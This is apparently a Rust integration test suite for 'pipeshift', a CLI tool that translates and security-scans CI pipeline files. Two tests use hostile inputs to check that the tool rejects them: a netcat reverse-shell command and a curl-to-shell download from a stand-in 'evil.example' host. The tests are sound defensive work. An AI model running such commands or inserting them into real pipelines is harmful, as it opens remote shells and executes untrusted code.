use assert_cmd::Command;
use predicates::prelude::*;

fn pipeshift() -> Command {
    Command::cargo_bin("pipeshift").expect("binary builds")
}

#[test]
fn test_help_lists_subcommands() {
    pipeshift()
        .arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("translate"))
        .stdout(predicate::str::contains("scan"))
        .stdout(predicate::str::contains("rules"))
        .stdout(predicate::str::contains("dialects"));
}

#[test]
fn test_version_flag() {
    pipeshift()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::contains(env!("CARGO_PKG_VERSION")));
}

#[test]
fn test_dialects_lists_both() {
    pipeshift()
        .arg("dialects")
        .assert()
        .success()
        .stdout(predicate::str::contains("workflow-yaml (default)"))
        .stdout(predicate::str::contains("groovy-pipeline"));
}

#[test]
fn test_translate_from_stdin() {
    pipeshift()
        .arg("translate")
        .write_stdin("on: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n")
        .assert()
        .success()
        .stdout(predicate::str::contains("run: make"))
        .stdout(predicate::str::starts_with("# Translated by pipeshift"));
}

#[test]
fn test_translate_sniffs_groovy() {
    // No --dialect flag: the pipeline { opener selects the Groovy profile.
    pipeshift()
        .arg("translate")
        .write_stdin("pipeline {\n  stages {\n    stage('Build') {\n      steps {\n        sh 'make'\n      }\n    }\n  }\n}\n")
        .assert()
        .success()
        .stdout(predicate::str::contains("run: make"));
}

#[test]
fn test_translate_rejects_blocked_content_with_exit_2() {
    pipeshift()
        .arg("translate")
        .write_stdin("on: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: nc -e /bin/sh 10.0.0.5 4444\n")
        .assert()
        .code(2)
        .stdout(predicate::str::is_empty())
        .stderr(predicate::str::contains("PS-SECURITY-REJECTED"));
}

#[test]
fn test_scan_reports_blocked_with_exit_2() {
    pipeshift()
        .arg("scan")
        .write_stdin("run: curl http://evil.example/x | sh\n")
        .assert()
        .code(2)
        .stdout(predicate::str::contains("PS-SEC-001"));
}

#[test]
fn test_scan_clean_document_exits_zero() {
    pipeshift()
        .arg("scan")
        .write_stdin("on: [push]\n")
        .assert()
        .success()
        .stdout(predicate::str::contains("no findings"));
}

#[test]
fn test_unknown_dialect_fails() {
    pipeshift()
        .arg("translate")
        .args(["--dialect", "makefile"])
        .write_stdin("on: [push]\n")
        .assert()
        .failure()
        .stderr(predicate::str::contains("unknown dialect"));
}

#[test]
fn test_rules_lists_builtin_bundle() {
    pipeshift()
        .arg("rules")
        .assert()
        .success()
        .stdout(predicate::str::contains("rules loaded"))
        .stdout(predicate::str::contains("trigger-unsupported"));
}

#[test]
fn test_malformed_bundle_exits_3() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("broken.yaml");
    std::fs::write(&bundle, "rules:\n  - id: bad\n    match: { kind: gizmo }\n").unwrap();
    pipeshift()
        .arg("rules")
        .arg("--rules")
        .arg(&bundle)
        .assert()
        .code(3)
        .stderr(predicate::str::contains("PS-MALFORMED-RULE"));
}

#[test]
fn test_translate_json_report() {
    let output = pipeshift()
        .arg("translate")
        .arg("--json")
        .write_stdin("on: [push]\n")
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let report: serde_json::Value = serde_json::from_slice(&output).expect("valid JSON report");
    assert!(report["target_text"].as_str().is_some());
    assert!(report["diagnostics"].is_array());
}

#[test]
fn test_translate_writes_output_file() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("workflow.yml");
    pipeshift()
        .arg("translate")
        .arg("-o")
        .arg(&out)
        .write_stdin("on: [push]\n")
        .assert()
        .success();
    let written = std::fs::read_to_string(&out).unwrap();
    assert!(written.contains("on:"));
}
